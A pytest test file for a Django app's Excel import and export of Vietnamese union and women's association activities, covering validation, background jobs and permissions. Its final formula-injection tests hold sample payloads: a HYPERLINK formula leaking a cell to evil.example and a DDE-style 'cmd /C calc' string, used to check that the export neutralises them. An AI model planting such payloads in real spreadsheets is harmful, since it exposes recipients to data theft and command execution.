"""The Excel round trip of activities: template, export with de-duplicated totals, and the
background import (every row checked, all or nothing, progress) through the service and pages."""

import datetime as dt
import io

import pytest
from django.core.management import call_command
from django.test import override_settings
from django.urls import reverse
from django.utils import translation
from django_tasks_db.management.commands import db_worker
from openpyxl import Workbook, load_workbook

from phoihop.accounts.permissions import SYSTEM
from phoihop.activities import excel, imports, services
from phoihop.activities.enums import DEFAULT_KINDS
from phoihop.activities.excel import HEADERS
from phoihop.activities.models import Activity, ActivityKind
from phoihop.activities.models_imports import ActivityImportJob
from phoihop.core.models import AuditEntry
from phoihop.orgs import services as org_services
from phoihop.programs import services as program_services
from tests.factories import accounts as account_factories
from tests.factories import orgs as org_factories

pytestmark = [pytest.mark.integration, pytest.mark.django_db]

DAY = dt.date(2017, 3, 6)
HANOI_WOMEN = "Hội Liên hiệp Phụ nữ thành phố Hà Nội"
NOT_XLSX = (
    "Tệp không phải bảng tính Excel .xlsx. Hãy mở tệp bằng Excel và lưu lại dưới dạng "
    "“Sổ làm việc Excel (.xlsx)”, hoặc dùng tệp mẫu."
)
NO_LEAD = (
    "Không có quyền ghi hoạt động cho đơn vị “{}” (hoặc không có đơn vị nào mang mã hay tên này)."
)


@pytest.fixture(autouse=True)
def _today(time_machine):
    # 10:00 in Hà Nội (UTC+7).
    time_machine.move_to(dt.datetime(2026, 3, 16, 3, 0, tzinfo=dt.UTC), tick=False)


@pytest.fixture
def coded_hanoi_union(hanoi_union):
    return org_services.unit_update(unit=hanoi_union, actor=SYSTEM, code="LDLD-HN")


@pytest.fixture
def program(hanoi_union, hanoi_women):
    program = program_services.program_create(
        actor=SYSTEM,
        parties=[{"unit": hanoi_union}, {"unit": hanoi_women}],
        title="Chương trình phối hợp hoạt động trong nữ CNVCLĐ",
        start_year=2017,
        end_year=2022,
    )
    return program_services.program_sign(
        program=program, signed_on=dt.date(2017, 3, 1), actor=SYSTEM
    )


def xlsx(*rows, headers=HEADERS) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    if headers:
        sheet.append(list(headers))
    for values in rows:
        sheet.append(list(values))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def row(title="Hội nghị tuyên truyền pháp luật cho nữ công nhân", **values) -> list:
    cells = {
        "title": title,
        "kind": "Hội nghị",
        "starts_on": "6/3/2017",
        "lead_unit": "LDLD-HN",
        "participants": 100,
        "participants_women": 60,
        **values,
    }
    return [cells.get(column.key) for column in excel.COLUMNS]


def run(*rows, actor, dry_run=False, data=None, filename="hoat-dong.xlsx") -> ActivityImportJob:
    job = imports.activity_import_job_create(
        actor=actor, data=data or xlsx(*rows), filename=filename, dry_run=dry_run
    )
    imports.activity_import_run(job)
    job.refresh_from_db()
    return job


def error(row, key, message) -> dict:
    return {"row": row, "column": excel.HEADER[key] if key else "", "message": message}


def _create(*units, title, **fields):
    values = {"kind": ActivityKind.objects.get(code="hoi-nghi"), "starts_on": DAY}
    return services.activity_create(
        actor=SYSTEM,
        organizers=[(unit, "lead" if i == 0 else "partner") for i, unit in enumerate(units)],
        title=title,
        **{**values, **fields},
    )


def _activity_audit_entries() -> int:
    return AuditEntry.objects.filter(action__startswith="phoihop.activity.").count()


def _sheet_rows(data: bytes, sheet: str = excel.SHEET_TITLE) -> list[tuple]:
    return list(load_workbook(io.BytesIO(data))[sheet].iter_rows(values_only=True))


# --- template ---------------------------------------------------------------------------------


def test_template_lists_kinds_the_users_units_and_visible_programs(
    coded_hanoi_union, danang_union, program, hanoi_union_officer
):
    org_factories.unit(
        "Liên đoàn Lao động quận Thanh Xuân", level_code="huyen", parent=coded_hanoi_union
    )
    other = program_services.program_create(  # data that could leak
        actor=SYSTEM,
        parties=[{"unit": danang_union}, {"unit": org_factories.unit("Hội LHPN Đà Nẵng")}],
        title="Chương trình của Đà Nẵng",
        start_year=2020,
    )

    book = load_workbook(io.BytesIO(excel.activities_template_workbook(hanoi_union_officer)))

    sheet, lists = book[excel.SHEET_TITLE], book["Danh mục"]
    assert book.sheetnames == [excel.SHEET_TITLE, "Hướng dẫn", "Danh mục"]
    assert [cell.value for cell in sheet[1]] == HEADERS
    assert [(str(v.sqref), v.formula1) for v in sheet.data_validations.dataValidation] == [
        ("B2:B20001", f"'Danh mục'!$A$2:$A${len(DEFAULT_KINDS) + 1}"),
        ("G2:G20001", "'Danh mục'!$B$2:$B$3"),
        ("I2:I20001", "'Danh mục'!$C$2:$C$2"),
    ]
    assert lists.sheet_state == "hidden"
    columns = list(lists.iter_cols(values_only=True))
    assert [value for value in columns[0] if value] == ["Loại hoạt động"] + [
        name for _code, name in DEFAULT_KINDS
    ]
    assert [value for value in columns[1] if value] == [
        "Đơn vị chủ trì",
        "Liên đoàn Lao động quận Thanh Xuân",
        "Liên đoàn Lao động thành phố Hà Nội",
    ]
    assert [value for value in columns[2] if value] == [
        "Chương trình",
        f"{program.pk} – Chương trình phối hợp hoạt động trong nữ CNVCLĐ",
    ]
    assert other.pk != program.pk
    guide = list(book["Hướng dẫn"].iter_rows(min_row=9, max_row=11, max_col=2, values_only=True))
    assert guide == [("Cột", "Bắt buộc"), ("Tên hoạt động", "Có"), ("Loại hoạt động", "Có")]


# --- export -----------------------------------------------------------------------------------


def test_export_writes_every_column_and_counts_a_joint_activity_once(
    coded_hanoi_union, hanoi_women, program
):
    area = org_factories.area("Phường Ba Đình", kind="ward", code="00004")
    _create(
        coded_hanoi_union,
        hanoi_women,
        title="Hội nghị phối hợp",
        ends_on=dt.date(2017, 3, 7),
        place="Hội trường",
        area=area,
        program=program,
        participants=120,
        participants_women=80,
        beneficiaries=30,
        benefits="Quà",
        benefits_value=3_000_000,
        costs={"union": 1_500_000, "women": 500_000},
        description="Tuyên truyền",
    )
    _create(
        coded_hanoi_union,
        title="Tập huấn an toàn lao động",
        starts_on=dt.date(2017, 4, 1),
        participants=50,
        participants_women=20,
    )
    _create(
        hanoi_women,
        title="Hội thi nấu ăn",
        starts_on=dt.date(2017, 5, 1),
        participants=30,
        participants_women=30,
        costs={"sponsor": 2_000_000},
    )

    data = excel.activities_export_workbook(Activity.objects.all())

    rows = _sheet_rows(data)
    assert rows == [
        tuple(HEADERS),
        (
            "Hội nghị phối hợp",
            "Hội nghị",
            dt.datetime(2017, 3, 6),  # noqa: DTZ001 (Excel dates have no time zone)
            dt.datetime(2017, 3, 7),  # noqa: DTZ001
            "Hội trường",
            "00004",
            "LDLD-HN",
            HANOI_WOMEN,
            f"{program.pk} – Chương trình phối hợp hoạt động trong nữ CNVCLĐ",
            120,
            80,
            30,
            "Quà",
            3_000_000,
            1_500_000,
            500_000,
            None,
            None,
            None,
            "Tuyên truyền",
        ),
        (
            "Tập huấn an toàn lao động",
            "Hội nghị",
            dt.datetime(2017, 4, 1),  # noqa: DTZ001
            *[None] * 3,
            "LDLD-HN",
            *[None] * 2,
            50,
            20,
            0,
            None,
            0,
            *[None] * 6,
        ),
        (
            "Hội thi nấu ăn",
            "Hội nghị",
            dt.datetime(2017, 5, 1),  # noqa: DTZ001
            *[None] * 3,
            HANOI_WOMEN,
            *[None] * 2,
            30,
            30,
            0,
            None,
            0,
            None,
            None,
            None,
            2_000_000,
            None,
            None,
        ),
        (
            "Tổng cộng: 3 hoạt động",
            *[None] * 8,
            200,
            130,
            30,
            None,
            3_000_000,
            1_500_000,
            500_000,
            0,
            2_000_000,
            0,
            None,
        ),
        (
            "Hoạt động do nhiều đơn vị cùng tổ chức chỉ tính một lần: 3 hoạt động, ghi công 4 "
            "lượt cho các đơn vị tổ chức.",
            *[None] * 19,
        ),
    ]
    sheet = load_workbook(io.BytesIO(data))[excel.SHEET_TITLE]
    assert (sheet["C2"].number_format, sheet["J2"].number_format, sheet["O5"].number_format) == (
        "DD/MM/YYYY",
        "#,##0",
        "#,##0",
    )


def test_export_can_be_imported_again(coded_hanoi_union, hanoi_women, program):
    _create(
        coded_hanoi_union,
        hanoi_women,
        title="Hội nghị phối hợp",
        program=program,
        participants=120,
        participants_women=80,
        costs={"union": 1_500_000},
    )
    _create(coded_hanoi_union, title="Tập huấn", participants=5)
    admin = account_factories.user("admin", is_superuser=True)
    data = excel.activities_export_workbook(Activity.objects.order_by("pk"))

    job = run(actor=admin, data=data)

    assert (job.status, job.total_rows, job.created_count) == ("done", 2, 2)
    original, copy = Activity.objects.filter(title="Hội nghị phối hợp").order_by("pk")
    assert [(excel.activity_cells(a), a.source) for a in (original, copy)] == [
        (excel.activity_cells(original), "entered"),
        (excel.activity_cells(original), "imported"),
    ]


# --- import: the service ----------------------------------------------------------------------


def test_import_creates_activities_with_organizers_and_costs_and_one_audit_entry(
    coded_hanoi_union, hanoi_women, program, hanoi_union_officer
):
    job = run(
        row(
            "Hội nghị phối hợp",
            ends_on="7/3/2017",
            partners=f" {HANOI_WOMEN} ; ",
            program=str(program.pk),
            beneficiaries="30",
            benefits_value="3.000.000",
            cost_union="1.500.000",
            cost_women=500000,
        ),
        row("Tập huấn", kind="tap-huan", lead_unit="Liên đoàn Lao động thành phố Hà Nội"),
        actor=hanoi_union_officer,
    )

    assert (job.status, job.errors, job.total_rows, job.processed_rows) == ("done", [], 2, 2)
    assert job.created_count == 2
    joint, training = Activity.objects.order_by("pk")
    assert [
        (a.title, a.kind.code, a.starts_on, a.ends_on, a.program, a.source, a.source_ref)
        for a in (joint, training)
    ] == [
        (
            "Hội nghị phối hợp",
            "hoi-nghi",
            DAY,
            dt.date(2017, 3, 7),
            program,
            "imported",
            "hoat-dong.xlsx, dòng 2",
        ),
        ("Tập huấn", "tap-huan", DAY, None, None, "imported", "hoat-dong.xlsx, dòng 3"),
    ]
    assert [(o.unit, o.role) for o in joint.organizers.order_by("pk")] == [
        (coded_hanoi_union, "lead"),
        (hanoi_women, "partner"),
    ]
    assert {c.source: c.amount for c in joint.costs.all()} == {"union": 1_500_000, "women": 500_000}
    assert (joint.total_cost, joint.benefits_value, joint.created_by) == (
        2_000_000,
        3_000_000,
        hanoi_union_officer,
    )
    assert list(
        AuditEntry.objects.filter(action__startswith="phoihop.activity.").values_list(
            "action", "object_id", "actor"
        )
    ) == [("phoihop.activity.imported", str(job.pk), hanoi_union_officer.pk)]


def test_import_writes_nothing_and_lists_every_error(
    coded_hanoi_union, danang_union, hanoi_union_officer
):
    job = run(
        row("Đúng"),
        row("", kind="Hội nghị lớn", starts_on="32/1/2017", participants="1,5"),
        row("Sai số nữ", participants="1.234", participants_women="1,235"),
        [],  # blank rows are skipped but keep Excel's numbering
        row("Đơn vị khác", lead_unit=danang_union.name, partners="Không có; LDLD-HN"),
        row("Không có đơn vị", lead_unit="KHONG-CO", ends_on="1/3/2017", program="99"),
        actor=hanoi_union_officer,
    )

    assert (job.status, job.created_count, job.total_rows, job.processed_rows) == (
        "failed",
        0,
        5,
        5,
    )
    assert job.errors == [
        error(3, "title", "Chưa điền (cột bắt buộc)."),
        error(
            3,
            "kind",
            "Không có loại hoạt động “Hội nghị lớn”. Các loại: "
            + "; ".join(name for _code, name in DEFAULT_KINDS)
            + ".",
        ),
        error(
            3,
            "starts_on",
            "Ngày “32/1/2017” không hợp lệ: ghi ngày trước tháng, ví dụ 06/03/2017 hoặc "
            "“ngày 6 tháng 3 năm 2017”.",
        ),
        error(
            3,
            "participants",
            "“1,5” không phải số nguyên không âm: ghi số nguyên, ví dụ 1.500.000 (không có "
            "phần thập phân).",
        ),
        error(
            4,
            "participants_women",
            "Số nữ (1.235) lớn hơn tổng số người tham dự (1.234).",
        ),
        error(6, "lead_unit", NO_LEAD.format(danang_union.name)),
        error(
            6,
            "partners",
            "Không thể ghi “Không có” làm đơn vị phối hợp (hoặc không có đơn vị nào mang mã "
            "hay tên này).",
        ),
        error(7, "ends_on", "Ngày kết thúc 01/03/2017 trước ngày bắt đầu 06/03/2017."),
        error(7, "lead_unit", NO_LEAD.format("KHONG-CO")),
        error(
            7,
            "program",
            "Không có chương trình “99” trong các chương trình bạn được xem. Hãy chọn trong "
            "danh sách, hoặc ghi mã số hay số, ký hiệu của chương trình.",
        ),
    ]
    assert (Activity.objects.count(), _activity_audit_entries()) == (0, 0)


@pytest.mark.parametrize(
    "value",
    [
        "6/3/2017",
        "06-03-2017",
        "ngày 6 tháng 3 năm 2017",
        dt.datetime(2017, 3, 6),  # noqa: DTZ001 (an Excel date cell has no time zone)
    ],
)
def test_import_reads_dates_day_first(coded_hanoi_union, hanoi_union_officer, value):
    job = run(row(starts_on=value), actor=hanoi_union_officer)

    assert (job.status, list(Activity.objects.values_list("starts_on", flat=True))) == (
        "done",
        [DAY],
    )


@pytest.mark.parametrize("value", ["1.234", "1,234", "1 234", 1234, 1234.0])
def test_import_reads_digit_groups_as_whole_numbers(coded_hanoi_union, hanoi_union_officer, value):
    job = run(row(participants=value), actor=hanoi_union_officer)

    assert (job.status, list(Activity.objects.values_list("participants", flat=True))) == (
        "done",
        [1234],
    )


@pytest.mark.parametrize("value", ["1,5", "-3", 12.5, "mười"])
def test_import_refuses_numbers_that_are_not_whole(coded_hanoi_union, hanoi_union_officer, value):
    job = run(row(beneficiaries=value), actor=hanoi_union_officer)

    assert [(e["row"], e["column"]) for e in job.errors] == [(2, "Số người thụ hưởng")]
    assert Activity.objects.count() == 0


def test_import_refuses_a_lead_unit_outside_reach_as_if_it_did_not_exist(
    coded_hanoi_union, hanoi_women, danang_union_officer
):
    job = run(
        row(lead_unit="LDLD-HN"),
        row(lead_unit="LDLD-KHONG-CO"),
        row(lead_unit=HANOI_WOMEN),
        actor=danang_union_officer,
    )

    assert job.errors == [
        error(2, "lead_unit", NO_LEAD.format("LDLD-HN")),
        error(3, "lead_unit", NO_LEAD.format("LDLD-KHONG-CO")),
        error(4, "lead_unit", NO_LEAD.format(HANOI_WOMEN)),
    ]
    assert Activity.objects.count() == 0


def test_import_refuses_a_program_outside_its_phase_and_a_partner_named_twice(
    coded_hanoi_union, hanoi_women, program, hanoi_union_officer
):
    job = run(
        row(starts_on="6/3/2024", program=f"{program.pk} – tên bất kỳ"),
        row(partners=f"{HANOI_WOMEN}; LDLD-HN"),
        row(partners=f"{HANOI_WOMEN}\n{HANOI_WOMEN}"),
        actor=hanoi_union_officer,
    )

    assert job.errors == [
        error(2, "program", "Ngày 06/03/2024 nằm ngoài giai đoạn của chương trình (2017–2022)."),
        error(
            3,
            "partners",
            "“LĐLĐ thành phố Hà Nội” là đơn vị chủ trì, không ghi lại ở cột “Đơn vị phối hợp”.",
        ),
        error(4, "partners", f"Đơn vị “{HANOI_WOMEN}” được ghi hai lần."),
    ]


def _zip_without_workbook() -> bytes:
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "xin chào")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("data", "filename", "message"),
    [
        (b"Ten hoat dong,Loai\nX,Y\n", "hoat-dong.xlsx", NOT_XLSX),  # a CSV renamed .xlsx
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "hoat-dong.xlsx", NOT_XLSX),  # .xls
        (None, "hoat-dong.csv", NOT_XLSX),
        (
            _zip_without_workbook(),
            "hoat-dong.xlsx",
            "Không đọc được tệp: tệp .xlsx bị hỏng hoặc không phải bảng tính Excel.",
        ),
    ],
    ids=["csv-renamed", "xls-renamed", "wrong-extension", "zip-not-excel"],
)
def test_import_refuses_a_file_that_is_not_xlsx(
    coded_hanoi_union, hanoi_union_officer, data, filename, message
):
    job = run(row(), actor=hanoi_union_officer, data=data, filename=filename)

    assert (job.status, job.errors) == ("failed", [error(0, "", message)])
    assert Activity.objects.count() == 0


@override_settings(MAX_UPLOAD_SIZE=5 * 1024)  # stands for the real 10 MB limit and a 50 MB file
def test_import_refuses_a_file_over_the_upload_limit(coded_hanoi_union, hanoi_union_officer):
    data = xlsx(*[row(f"Hoạt động {n}") for n in range(200)])

    job = run(actor=hanoi_union_officer, data=data)

    assert job.errors == [
        error(0, "", f"Tệp quá lớn ({round(len(data) / 1024)} KB): chỉ nhận tệp đến 5 KB.")
    ]
    assert Activity.objects.count() == 0


def test_import_names_missing_and_unknown_columns(hanoi_union_officer):
    headers = [h for h in HEADERS if h != "Trong đó nữ"] + ["Ghi chú"]

    job = run(actor=hanoi_union_officer, data=xlsx(["A"] * len(headers), headers=headers))

    assert job.errors == [
        error(
            0,
            "",
            "Dòng tiêu đề (dòng 1) không đúng mẫu: thiếu cột “Trong đó nữ”; có cột không thuộc "
            "mẫu “Ghi chú”. Các cột của mẫu: " + ", ".join(f"“{h}”" for h in HEADERS) + ".",
        )
    ]


@pytest.mark.parametrize(
    ("title", "encoding"),
    [
        ("Héi nghÞ tuyªn truyÒn ph¸p luËt cho n÷ c«ng nh©n", "TCVN3 (ABC, phông .Vn…)"),
        ("Hoäi nghò tuyeân truyeàn phaùp luaät cho nöõ coâng nhaân", "VNI (phông VNI-…)"),
    ],
    ids=["tcvn3", "vni"],
)
def test_import_refuses_legacy_encoded_text(
    coded_hanoi_union, hanoi_union_officer, title, encoding
):
    job = run(row("Hội nghị"), row(title), actor=hanoi_union_officer)

    assert job.errors == [
        error(
            3,
            "title",
            f"Chữ trong tệp được gõ bằng bảng mã cũ {encoding}, không phải Unicode. Hãy chuyển "
            "mã sang Unicode (ví dụ bằng công cụ chuyển mã của Unikey) rồi nhập lại.",
        )
    ]
    assert Activity.objects.count() == 0


def test_import_dry_run_checks_everything_and_writes_nothing(
    coded_hanoi_union, hanoi_union_officer
):
    job = run(row(), row("Tập huấn"), actor=hanoi_union_officer, dry_run=True)

    assert (job.status, job.errors, job.total_rows, job.created_count) == ("done", [], 2, 0)
    assert (Activity.objects.count(), _activity_audit_entries()) == (0, 0)


def test_import_runs_a_job_once(coded_hanoi_union, hanoi_union_officer):
    job = run(row(), actor=hanoi_union_officer)

    imports.activity_import_run(job)

    assert Activity.objects.count() == 1


# --- import: the pages ------------------------------------------------------------------------

IMPORT = reverse("activities_excel:activity_import")


@pytest.fixture
def client(client, settings):
    """Pages in English (the language cookie), so the texts do not depend on translations."""
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    yield client
    # The language middleware leaves the request's language active: do not leak it.
    translation.deactivate()


def _upload(client, data, *, dry_run=False, name="hoat-dong.xlsx", **extra):
    from django.core.files.uploadedfile import SimpleUploadedFile

    payload = {"file": SimpleUploadedFile(name, data)}
    if dry_run:
        payload["dry_run"] = "1"
    return client.post(IMPORT, payload, **extra)


def test_import_page_runs_the_job_in_the_background_and_shows_the_outcome(
    client, coded_hanoi_union, hanoi_union_officer, django_capture_on_commit_callbacks
):
    client.force_login(hanoi_union_officer)

    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = _upload(client, xlsx(row(), row("Tập huấn")))

    job = ActivityImportJob.objects.get()
    assert len(callbacks) == 1
    assert response.url == reverse("activities_excel:import_job_detail", args=[job.pk])
    assert (job.status, job.processed_rows, job.total_rows, job.created_count) == (
        "done",
        2,
        2,
        2,
    )
    page = client.get(response.url)
    html = " ".join(page.content.decode().split())
    assert "Imported 2 activities." in html
    assert '<progress max="2" value="2">' in html
    assert "hx-trigger" not in html


def test_import_page_polls_a_running_job_every_two_seconds(
    client, coded_hanoi_union, hanoi_union_officer
):
    client.force_login(hanoi_union_officer)
    job = imports.activity_import_job_create(
        actor=hanoi_union_officer, data=b"", filename="hoat-dong.xlsx", dry_run=False
    )
    ActivityImportJob.objects.filter(pk=job.pk).update(
        status="running", stage="checking", total_rows=1000, processed_rows=400
    )
    url = reverse("activities_excel:import_job_detail", args=[job.pk])

    response = client.get(url, HTTP_HX_REQUEST="true")

    html = " ".join(response.content.decode().split())
    assert html.startswith(
        f'<div id="import-progress" hx-get="{url}" hx-trigger="every 2s" hx-swap="outerHTML"'
    )
    assert "Checking rows: 400 of 1.000."  # the project writes 1.000 in English too in html
    assert '<progress max="1000" value="400">40%</progress>' in html


def test_import_page_lists_row_errors(
    client, coded_hanoi_union, hanoi_union_officer, django_capture_on_commit_callbacks
):
    client.force_login(hanoi_union_officer)

    with django_capture_on_commit_callbacks(execute=True):
        response = _upload(client, xlsx(row(participants_women=200)))
    page = client.get(response.url)

    html = " ".join(page.content.decode().split())
    assert "1 error: nothing was imported." in html
    assert "Số nữ (200) lớn hơn tổng số người tham dự (100)." in html
    assert Activity.objects.count() == 0


def test_import_page_dry_run_then_import_without_uploading_again(
    client, coded_hanoi_union, hanoi_union_officer, django_capture_on_commit_callbacks
):
    client.force_login(hanoi_union_officer)
    with django_capture_on_commit_callbacks(execute=True):
        checked = _upload(client, xlsx(row()), dry_run=True)
    dry_run = ActivityImportJob.objects.get()
    assert (dry_run.dry_run, dry_run.status, Activity.objects.count()) == (True, "done", 0)

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("activities_excel:import_job_confirm", args=[dry_run.pk]), follow=True
        )

    job = ActivityImportJob.objects.exclude(pk=dry_run.pk).get()
    assert checked.url != response.redirect_chain[-1][0]
    assert (job.dry_run, job.status, job.created_count) == (False, "done", 1)
    assert Activity.objects.count() == 1


def test_import_page_refuses_a_file_over_the_upload_limit(client, hanoi_union_officer):
    client.force_login(hanoi_union_officer)

    with override_settings(MAX_UPLOAD_SIZE=1024):
        response = _upload(client, b"PK\x03\x04" + b"x" * 2048)

    assert response.context["form"].errors == {
        "file": ["Tệp vượt quá dung lượng cho phép (1,0\xa0KB)."]
    }
    assert ActivityImportJob.objects.count() == 0


def test_import_page_lists_only_the_users_own_jobs(
    client, coded_hanoi_union, hanoi_union_officer, hanoi_women_officer
):
    mine = imports.activity_import_job_create(
        actor=hanoi_union_officer, data=b"", filename="cua-toi.xlsx", dry_run=True
    )
    imports.activity_import_job_create(  # data that could leak
        actor=hanoi_women_officer, data=b"", filename="cua-hoi.xlsx", dry_run=False
    )
    client.force_login(hanoi_union_officer)

    response = client.get(IMPORT)

    assert list(response.context["jobs"]) == [mine]
    assert "cua-hoi.xlsx" not in response.content.decode()


def test_import_job_is_visible_only_to_its_creator(
    client, coded_hanoi_union, hanoi_union_officer, hanoi_women_officer
):
    job = imports.activity_import_job_create(
        actor=hanoi_union_officer, data=xlsx(row()), filename="hoat-dong.xlsx", dry_run=True
    )
    client.force_login(hanoi_women_officer)

    detail = client.get(reverse("activities_excel:import_job_detail", args=[job.pk]))
    confirm = client.post(reverse("activities_excel:import_job_confirm", args=[job.pk]))

    assert (detail.status_code, confirm.status_code) == (404, 404)


def test_template_download_is_an_xlsx_attachment(client, coded_hanoi_union, hanoi_union_officer):
    client.force_login(hanoi_union_officer)

    response = client.get(reverse("activities_excel:activity_template"))

    assert response["Content-Disposition"] == 'attachment; filename="mau-nhap-hoat-dong.xlsx"'
    assert _sheet_rows(response.content)[0] == tuple(HEADERS)


# --- export: the page -------------------------------------------------------------------------


def test_export_page_exports_the_filtered_list_visible_to_the_user(
    client, coded_hanoi_union, hanoi_women, danang_union, hanoi_union_officer
):
    _create(coded_hanoi_union, title="Hội nghị tuyên truyền")
    _create(coded_hanoi_union, title="Tập huấn an toàn")
    _create(danang_union, title="Hội nghị tuyên truyền ở Đà Nẵng")  # data that could leak
    client.force_login(hanoi_union_officer)

    response = client.get(reverse("activities_excel:activity_export"), {"q": "tuyen truyen"})

    assert response["Content-Disposition"] == 'attachment; filename="hoat-dong-20260316.xlsx"'
    assert [r[0] for r in _sheet_rows(response.content)] == [
        "Tên hoạt động",
        "Hội nghị tuyên truyền",
        "Tổng cộng: 1 hoạt động",
    ]


def test_import_runs_through_the_database_task_backend_and_its_worker(
    coded_hanoi_union,
    hanoi_union_officer,
    django_capture_on_commit_callbacks,
    settings,
    monkeypatch,
):
    # The worker drops connections it finds inside a transaction: this test's own transaction.
    monkeypatch.setattr(db_worker, "close_old_connections", lambda: None)
    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
    with django_capture_on_commit_callbacks(execute=True):
        job = imports.activity_import_start(
            actor=hanoi_union_officer, data=xlsx(row()), filename="hoat-dong.xlsx", dry_run=False
        )
    job.refresh_from_db()
    assert (job.status, Activity.objects.count()) == ("pending", 0)

    call_command("db_worker", batch=True, startup_delay=False, reload=False, verbosity=0)

    job.refresh_from_db()
    assert (job.status, job.created_count, Activity.objects.count()) == ("done", 1, 1)


@pytest.mark.parametrize("row_count", [1, 3])
def test_import_check_costs_no_query_per_row(
    coded_hanoi_union,
    hanoi_women,
    program,
    hanoi_union_officer,
    row_count,
    django_assert_num_queries,
):
    rows = [
        row(f"Hoạt động {n}", partners=HANOI_WOMEN, program=program.pk) for n in range(row_count)
    ]
    job = imports.activity_import_job_create(
        actor=hanoi_union_officer, data=xlsx(*rows), filename="hoat-dong.xlsx", dry_run=True
    )

    with django_assert_num_queries(12):  # lookups once for the file, two progress writes
        check = imports.activity_import_validate(job)

    assert (len(check.rows), check.errors) == (row_count, [])


def test_the_report_layout_reads_names_and_counts_a_joint_activity_once(
    coded_hanoi_union, hanoi_women, program
):
    from io import BytesIO

    from openpyxl import load_workbook

    _create(
        coded_hanoi_union,
        hanoi_women,
        title="Hội nghị phối hợp",
        program=program,
        participants=120,
        participants_women=80,
        costs={"union": 1_500_000, "women": 500_000},
    )
    _create(coded_hanoi_union, title="Tập huấn", starts_on=dt.date(2017, 4, 1), participants=5)

    data = excel.activities_report_workbook(Activity.objects.all())

    rows = list(load_workbook(BytesIO(data)).active.iter_rows(values_only=True))
    assert rows[0][:3] == ("STT", "Ngày", "Tên hoạt động")
    assert rows[1][0] == 1
    assert rows[1][5:7] == (coded_hanoi_union.name, hanoi_women.name)
    assert rows[1][7] == str(program)
    assert rows[-1][2] == f"{excel.TOTALS_PREFIX} 2 hoạt động"
    assert rows[-1][8:] == (125, 80, 0, 2_000_000)


# --- formula injection (issue 9, item 6) ------------------------------------------------------


def _formula_cells(data: bytes) -> list[tuple[str, str, object]]:
    """Every cell of every sheet that Excel would evaluate: (sheet, coordinate, value)."""
    book = load_workbook(io.BytesIO(data))
    return [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_export_writes_text_that_would_start_a_formula_as_text(coded_hanoi_union):
    _create(
        coded_hanoi_union,
        title='=HYPERLINK("http://evil.example/?x="&A2,"Bấm vào đây")',
        place="+84 Hà Nội",
        description="@SUM(1+1)\tcmd",
    )
    _create(coded_hanoi_union, title="-2+3", place="\r=1+1")

    data = excel.activities_export_workbook(Activity.objects.order_by("pk"))

    book = load_workbook(io.BytesIO(data))
    sheet = book[excel.SHEET_TITLE]
    titles = [(cell.value, cell.data_type, cell.quotePrefix) for cell in sheet["A"][1:3]]
    assert titles == [
        ('=HYPERLINK("http://evil.example/?x="&A2,"Bấm vào đây")', "s", True),
        ("-2+3", "s", True),
    ]
    assert _formula_cells(data) == []


def test_template_lists_a_unit_named_like_a_formula_as_text(hanoi_union_officer, hanoi_union):
    org_services.unit_update(unit=hanoi_union, actor=SYSTEM, name="=1+cmd|' /C calc'!A0")

    data = excel.activities_template_workbook(hanoi_union_officer)

    assert "=1+cmd|' /C calc'!A0" in [
        value for row in _sheet_rows(data, "Danh mục") for value in row
    ]
    assert _formula_cells(data) == []


def test_export_with_formula_like_text_imports_back_unchanged(coded_hanoi_union):
    _create(coded_hanoi_union, title="=1+1 không phải công thức", place="-Hội trường")
    admin = account_factories.user("admin", is_superuser=True)
    data = excel.activities_export_workbook(Activity.objects.order_by("pk"))

    job = run(actor=admin, data=data)

    assert job.status == "done"
    assert list(Activity.objects.order_by("pk").values_list("title", "place")) == [
        ("=1+1 không phải công thức", "-Hội trường"),
        ("=1+1 không phải công thức", "-Hội trường"),
    ]
